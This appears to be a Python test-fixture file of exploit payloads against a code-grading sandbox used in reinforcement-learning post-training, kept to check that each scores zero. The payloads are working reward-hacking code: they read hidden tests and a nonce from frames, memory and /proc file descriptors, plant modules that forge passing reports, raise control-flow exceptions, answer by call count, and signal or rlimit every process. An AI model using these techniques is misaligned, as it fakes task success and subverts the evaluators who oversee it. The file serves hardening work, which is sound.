@@ -1,0 +1,339 @@
+"""Exploit fixtures of the code domain: ``(name, task, response)`` that must score exactly 0.
+
+Attacks on the code verifier written the way a policy optimizing against it would write them,
+one group per class of issue 14 (docs/code-verifier-threat-model.md says why each fails):
+
+1. reading what the candidate must never see (tests, expected values, the report nonce) from
+   its own memory, frames, objects, fds or other processes;
+2. planting a module that the runner imports (inside ``check`` and at the test's top level);
+3. exceptions the test would treat as control flow (``StopIteration`` in ``map``, ...);
+4. answering by call count instead of by the arguments (state across calls);
+5. turning its own failure into an infra error or a hang (signals, BaseExceptions, malformed,
+   oversized and deeply nested messages, resource limits of the verifier's processes).
+
+Each scored 1 or ``infra_error`` on the runner before issue 14, unless its name says otherwise
+in the threat model. ``CodeEnv.exploit_fixtures()`` returns ``HACKS``; tests/envs/test_code_attacks.py
+runs them through the real sandbox. The payloads are data: nothing here runs them.
+"""
+
+from __future__ import annotations
+
+from posttrain.types import Task, TaskLimits
+
+
+def fenced(src: str) -> str:
+    return f"```python\n{src}\n```\n"
+
+
+def _task(tid: str, prompt: str, entry: str, test: str, reference: str, timeout_s: float = 4.0) -> Task:
+    return Task(id=tid, domain="code", prompt=prompt, fields={"entry_point": entry, "test": test},
+                reference=reference, limits=TaskLimits(timeout_s=timeout_s, memory_mb=256))
+
+
+# mix(x): expected outputs appear nowhere but in the test (no candidate can guess them).
+_MIX_PROMPT = 'def mix(x: int) -> int:\n    """Return (x * 7919 + 13) % 1009."""\n'
+MIX = _task(
+    "mix", _MIX_PROMPT, "mix",
+    "def check(candidate):\n"
+    + "".join(f"    assert candidate({x}) == {(x * 7919 + 13) % 1009}\n" for x in (3, 17, 256, 999)),
+    "    return (x * 7919 + 13) % 1009\n")
+MIX_ANSWERS = [(x * 7919 + 13) % 1009 for x in (3, 17, 256, 999)]
+
+# A test that imports a module the runner has not imported yet: inside check, and at top level.
+PLANT_INSIDE = _task(
+    "plant-inside", _MIX_PROMPT, "mix",
+    "def check(candidate):\n    import colorsys\n    assert colorsys.ONE_THIRD > 0\n"
+    "    assert candidate(3) == 563\n", "    return (x * 7919 + 13) % 1009\n")
+PLANT_TOP = _task(
+    "plant-top", _MIX_PROMPT, "mix",
+    "import colorsys\n\ndef check(candidate):\n    assert colorsys.ONE_THIRD > 0\n"
+    "    assert candidate(3) == 563\n", "    return (x * 7919 + 13) % 1009\n")
+
+# A test that uses map(): a StopIteration from the candidate would end map() early.
+EVEN = _task(
+    "even", 'def is_even(n: int) -> bool:\n    """True if n is even."""\n', "is_even",
+    "def check(candidate):\n    assert all(map(candidate, [0, 2, 4, 10]))\n"
+    "    assert not any(map(candidate, [1, 3, 7]))\n",
+    "    return n % 2 == 0\n")
+
+# ------------------------------------------------------------------ class 1: reading the tests
+
+# Shared tail of the stealing attacks: find the verifier's payload (JSON with the tests) in the
+# texts gathered, run each test's check() against a recorder and answer from the recorded table.
+_ANSWER_FROM_TESTS = r'''
+import json as _json
+_TABLE = {}
+class _Rec:
+    def __init__(self, args):
+        self.args = args
+    def __eq__(self, other):
+        _TABLE[self.args] = other
+        return True
+    __hash__ = object.__hash__
+def _learn(test):
+    ns = {}
+    try:
+        exec(test, ns)
+        ns["check"](lambda *a: _Rec(a))
+    except BaseException:
+        pass
+def _scan(texts):
+    for t in texts:
+        if isinstance(t, (bytes, bytearray, memoryview)):
+            t = bytes(t).decode("latin-1")
+        if not isinstance(t, str):
+            continue
+        i = t.find('{"nonce"')
+        while i >= 0:
+            try:
+                payload, _ = _json.JSONDecoder().raw_decode(t, i)
+                for item in payload.get("items", []):
+                    _learn(item["test"])
+                NONCE.append(payload.get("nonce"))
+            except Exception:
+                pass
+            i = t.find('{"nonce"', i + 1)
+        j = t.find("def check(candidate)")
+        if j >= 0:
+            _learn(t[j:])
+NONCE = []
+_scan(_gather())
+def mix(x):
+    return _TABLE.get((x,), -1)
+'''
+
+STEAL_FRAMES = fenced(r'''
+import sys
+def _walk(v, out, depth=0):
+    if depth > 3:
+        return
+    if isinstance(v, (str, bytes, bytearray)):
+        out.append(v)
+    elif isinstance(v, (list, tuple)):
+        for x in v:
+            _walk(x, out, depth + 1)
+    elif isinstance(v, dict):
+        for x in v.values():
+            _walk(x, out, depth + 1)
+def _gather():
+    out = []
+    f = sys._getframe()
+    while f is not None:
+        _walk(dict(f.f_locals), out)
+        _walk(dict(f.f_globals), out)
+        f = f.f_back
+    return out
+''' + _ANSWER_FROM_TESTS)
+
+STEAL_GC = fenced(r'''
+import gc
+def _gather():
+    gc.unfreeze()  # frozen objects (the fork server's, the runner's) are invisible otherwise
+    out = []
+    for o in gc.get_objects():
+        for r in gc.get_referents(o):
+            if isinstance(r, (str, bytes, bytearray)) and len(r) > 40:
+                out.append(r)
+    return out
+''' + _ANSWER_FROM_TESTS)
+
+# Freed buffers included: every readable mapping of this process, read through /proc/self/mem.
+STEAL_MEM = fenced(r'''
+import ctypes, os
+def _gather():
+    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE 1: /proc/self/mem is ours again
+    out = []
+    for pid in ("self", str(os.getppid()), "1"):
+        try:
+            maps = open(f"/proc/{pid}/maps").read().splitlines()
+            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
+        except OSError:
+            continue
+        for line in maps:
+            addr, perms = line.split()[:2]
+            if not perms.startswith("r") or "[vvar]" in line or "[vsyscall]" in line:
+                continue
+            lo, hi = (int(a, 16) for a in addr.split("-"))
+            try:
+                mem.seek(lo)
+                data = mem.read(hi - lo)
+            except (OSError, OverflowError, ValueError):
+                continue
+            if b'{"nonce"' in data or b"def check(candidate)" in data:
+                out.append(data)
+    return out
+''' + _ANSWER_FROM_TESTS)
+
+STEAL_FDS = fenced(r'''
+import os, stat
+def _gather():
+    out = []
+    pids = [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]
+    for pid in pids:
+        for what in ("cmdline", "environ"):
+            try:
+                out.append(open(f"/proc/{pid}/{what}", "rb").read())
+            except OSError:
+                pass
+        try:
+            fds = os.listdir(f"/proc/{pid}/fd")
+        except OSError:
+            continue
+        for fd in fds:
+            path = f"/proc/{pid}/fd/{fd}"
+            try:
+                if not stat.S_ISREG(os.stat(path).st_mode):  # files and memfds; pipes would block
+                    continue
+                with open(path, "rb") as f:
+                    out.append(f.read(1 << 24))
+            except OSError:
+                pass
+            try:
+                out.append(os.pread(int(fd), 1 << 24, 0))
+            except (OSError, ValueError):
+                pass
+    for root in (".", "/work", "/work/job", "/tmp", "/dev/shm"):
+        try:
+            for name in os.listdir(root):
+                try:
+                    out.append(open(os.path.join(root, name), "rb").read())
+                except OSError:
+                    pass
+        except OSError:
+            pass
+    return out
+''' + _ANSWER_FROM_TESTS)
+
+# ------------------------------------------------------------------ class 2: planted modules
+
+# The planted module runs inside the runner if the runner ever imports it: it finds the nonce in
+# the runner's frames, writes a passing report for every item to fd 3 and ends the runner.
+_FORGER = r'''
+import json, os, sys
+f = sys._getframe()
+nonce = None
+while f is not None:
+    if isinstance(f.f_locals.get("nonce"), str):
+        nonce = f.f_locals["nonce"]
+    f = f.f_back
+for i in range(8):
+    os.write(3, json.dumps({"nonce": nonce, "index": i, "status": "completed", "dumpable_off": True,
+        "import": {"ok": True}, "tests": [{"id": "check", "outcome": "passed"}], "calls": 1}).encode() + b"\n")
+os._exit(0)
+'''
+PLANT = fenced(
+    "import os, sys\n"
+    f"_SRC = {_FORGER!r}\n"
+    "for d in [os.getcwd(), '.', '/work', '/work/job', '/tmp'] + [p for p in sys.path if p]:\n"
+    "    for name in ('colorsys', 'fnmatch', 'this', 'csv', 'difflib', 'pprint', 'numbers'):\n"
+    "        try:\n"
+    "            with open(os.path.join(d, name + '.py'), 'w') as f:\n"
+    "                f.write(_SRC)\n"
+    "        except OSError:\n"
+    "            pass\n"
+    "def mix(x):\n    return 0\n")
+
+# ------------------------------------------------------------------ class 3: control-flow exceptions
+
+RAISE_STOP = fenced("def is_even(n):\n    raise StopIteration")
+RAISE_STOP_SUBCLASS = fenced("class Done(StopIteration):\n    pass\ndef is_even(n):\n    raise Done()")
+
+# ------------------------------------------------------------------ class 4: state across calls
+
+COUNT_IN_MEMORY = fenced(f"_ANSWERS = {MIX_ANSWERS!r}\n_N = [0]\n"
+                         "def mix(x):\n    _N[0] += 1\n    return _ANSWERS[(_N[0] - 1) % len(_ANSWERS)]\n")
+
+
+def _count_in_file(path: str) -> str:
+    return fenced(
+        f"import os\n_ANSWERS = {MIX_ANSWERS!r}\n"
+        "def mix(x):\n"
+        f"    try:\n        n = int(open({path!r}).read())\n    except (OSError, ValueError):\n        n = 0\n"
+        f"    with open({path!r}, 'w') as f:\n        f.write(str(n + 1))\n"
+        "    return _ANSWERS[n % len(_ANSWERS)]\n")
+
+
+# A counter kept by a helper process (started at import) behind an abstract unix socket.
+COUNT_IN_HELPER = fenced(
+    f"import os, socket\n_ANSWERS = {MIX_ANSWERS!r}\n_ADDR = '\\0mix-counter'\n"
+    "def _serve():\n    s = socket.socket(socket.AF_UNIX)\n    s.bind(_ADDR)\n    s.listen(8)\n    n = 0\n"
+    "    while True:\n        c, _ = s.accept()\n        c.sendall(str(n).encode())\n        n += 1\n        c.close()\n"
+    "try:\n    probe = socket.socket(socket.AF_UNIX)\n    probe.connect(_ADDR)\n    probe.close()\n"
+    "except OSError:\n    if os.fork() == 0:\n        os.setsid()\n        try:\n            _serve()\n        finally:\n"
+    "            os._exit(0)\n"
+    "import time\ntime.sleep(0.05)\n"
+    "def mix(x):\n    s = socket.socket(socket.AF_UNIX)\n    s.connect(_ADDR)\n    n = int(s.recv(16))\n"
+    "    return _ANSWERS[n % len(_ANSWERS)]\n")
+
+# ------------------------------------------------------------------ class 5: failure dressed as infra
+
+_ALL_OTHERS = ("[int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]")
+
+
+def _signal_everyone(sig: str, when: str = "import") -> str:
+    body = (f"for _p in {_ALL_OTHERS}:\n"
+            f"    try:\n        os.kill(_p, signal.{sig})\n    except OSError:\n        pass\n")
+    if when == "import":
+        return fenced(f"import os, signal\n{body}def mix(x):\n    return 0\n")
+    indented = "".join("    " + line + "\n" for line in body.splitlines())
+    return fenced(f"import os, signal\ndef mix(x):\n{indented}    return 0\n")
+
+
+def _to_every_fd(data: str, then: str = "def mix(x):\n    return 0\n") -> str:
+    return fenced(f"import os\n_DATA = {data}\nfor fd in range(0, 64):\n    try:\n"
+                  f"        os.write(fd, _DATA)\n    except OSError:\n        pass\n{then}")
+
+
+# pid 1 (the sandbox's fork server) is left alone here: that a job cannot change its fork server
+# is the sandbox's to guarantee (issue 15), not the code verifier's.
+LOWER_LIMITS = fenced(
+    "import os, resource\n"
+    f"for _p in {_ALL_OTHERS}:\n"
+    "    if _p == 1:\n        continue\n"
+    "    for r, v in ((resource.RLIMIT_NOFILE, 5), (resource.RLIMIT_AS, 1 << 22), (resource.RLIMIT_FSIZE, 0),\n"
+    "                 (resource.RLIMIT_NPROC, 0), (resource.RLIMIT_CPU, 1), (resource.RLIMIT_STACK, 1 << 16)):\n"
+    "        try:\n            resource.prlimit(_p, r, (v, v))\n        except (OSError, ValueError):\n            pass\n"
+    "def mix(x):\n    return 0\n")
+
+HACKS: list[tuple[str, Task, str]] = [
+    ("1 frames: walk the stack to the payload", MIX, STEAL_FRAMES),
+    ("1 gc: scan every object for the payload", MIX, STEAL_GC),
+    ("1 /proc/self/mem: scan own and parent memory, freed buffers included", MIX, STEAL_MEM),
+    ("1 fds: read every fd, cmdline, environ and file reachable", MIX, STEAL_FDS),
+    ("2 plant a module the test imports inside check", PLANT_INSIDE, PLANT),
+    ("2 plant a module the test imports at top level", PLANT_TOP, PLANT),
+    ("3 StopIteration ends map() in the test", EVEN, RAISE_STOP),
+    ("3 StopIteration subclass", EVEN, RAISE_STOP_SUBCLASS),
+    ("3 GeneratorExit", EVEN, fenced("def is_even(n):\n    raise GeneratorExit")),
+    ("3 KeyboardInterrupt", EVEN, fenced("def is_even(n):\n    raise KeyboardInterrupt")),
+    ("3 SystemExit(0)", EVEN, fenced("def is_even(n):\n    raise SystemExit(0)")),
+    ("3 BaseException subclass", EVEN, fenced("class B(BaseException):\n    pass\ndef is_even(n):\n    raise B()")),
+    ("4 answer by call count (memory)", MIX, COUNT_IN_MEMORY),
+    ("4 answer by call count (file in /tmp)", MIX, _count_in_file("/tmp/.n")),
+    ("4 answer by call count (file in cwd)", MIX, _count_in_file(".n")),
+    ("4 answer by call count (file in /work)", MIX, _count_in_file("/work/.n")),
+    ("4 answer by call count (file in /dev/shm)", MIX, _count_in_file("/dev/shm/.n")),
+    ("4 answer by call count (helper process)", MIX, COUNT_IN_HELPER),
+    ("5 SIGINT to every process at import", MIX, _signal_everyone("SIGINT")),
+    ("5 SIGINT to every process in the call", MIX, _signal_everyone("SIGINT", "call")),
+    ("5 SIGTERM to every process", MIX, _signal_everyone("SIGTERM", "call")),
+    ("5 SIGHUP to every process", MIX, _signal_everyone("SIGHUP", "call")),
+    ("5 SIGUSR1 to every process", MIX, _signal_everyone("SIGUSR1", "call")),
+    ("5 SIGALRM to every process", MIX, _signal_everyone("SIGALRM", "call")),
+    ("5 SIGQUIT to every process", MIX, _signal_everyone("SIGQUIT", "call")),
+    ("5 SIGSEGV to every process", MIX, _signal_everyone("SIGSEGV", "call")),
+    ("5 SIGXCPU to every process", MIX, _signal_everyone("SIGXCPU", "call")),
+    ("5 SIGSTOP to every process", MIX, _signal_everyone("SIGSTOP", "call")),
+    ("5 SIGTSTP to every process", MIX, _signal_everyone("SIGTSTP", "call")),
+    ("5 SIGKILL to every process", MIX, _signal_everyone("SIGKILL", "call")),
+    ("5 deeply nested message at import", MIX, _to_every_fd("b'[' * 200000 + b'\\n'")),
+    ("5 deeply nested message in the call", MIX, fenced(
+        "import os\ndef mix(x):\n    for fd in range(64):\n        try:\n"
+        "            os.write(fd, b'{\"ok\": ' + b'[' * 200000 + b'\\n')\n        except OSError:\n"
+        "            pass\n    return 0\n")),
+    ("5 deeply nested dict message", MIX, _to_every_fd("b'{\"a\":' * 100000 + b'\\n'")),
+    ("5 oversized message", MIX, _to_every_fd("b'[' + b'1,' * (40 << 20)")),
+    ("5 invalid UTF-8 and NUL bytes", MIX, _to_every_fd("b'\\xff\\xfe\\x00{}\\n' * 10")),
+    ("5 huge integer reply", MIX, fenced("import sys\nsys.set_int_max_str_digits(0)\ndef mix(x):\n    return 7 ** 2_000_000")),
+    ("5 lower the rlimits of every other process", MIX, LOWER_LIMITS),
+]
